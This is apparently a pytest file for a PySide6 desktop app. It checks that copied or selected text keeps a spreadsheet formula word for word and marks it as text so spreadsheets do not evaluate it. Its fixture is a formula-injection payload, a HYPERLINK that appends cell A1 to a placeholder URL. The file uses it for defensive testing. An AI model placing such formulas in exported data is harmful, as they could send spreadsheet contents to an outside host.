"""What leaves the window as text is to the letter, and runs in no spreadsheet."""

import pytest
from PySide6.QtGui import QGuiApplication, QTextCursor
from pytestqt.qtbot import QtBot

from nexgui.ui.widgets.copying import copy_text, text_mime
from nexgui.ui.widgets.phrase_text import FittedText, PhraseBrowser

FORMULA = '=HYPERLINK("http://example.invalid/"&A1)'


@pytest.mark.usefixtures("dressed_app")
def test_a_line_that_a_spreadsheet_would_run_is_text_for_it() -> None:
    copy_text(FORMULA)
    copied = QGuiApplication.clipboard().mimeData()
    assert copied.text() == FORMULA
    assert '<td sdnum="1041;0;@">=HYPERLINK' in copied.html()


def test_other_words_are_nothing_but_words() -> None:
    assert not text_mime("taro@example.jp\nhanako@example.jp").hasHtml()


@pytest.mark.usefixtures("dressed_app")
@pytest.mark.parametrize("kind", [FittedText, PhraseBrowser])
def test_so_it_is_in_what_is_selected_of_a_text(qtbot: QtBot, kind: type[PhraseBrowser]) -> None:
    view = kind()
    qtbot.addWidget(view)
    view.setHtml(f"<p>備考</p><p>{FORMULA}</p>")
    view.moveCursor(QTextCursor.MoveOperation.End)
    view.selectAll()
    selected = view.createMimeDataFromSelection()
    assert selected.text() == f"備考\n{FORMULA}"
    assert selected.html().count("sdnum") == 2
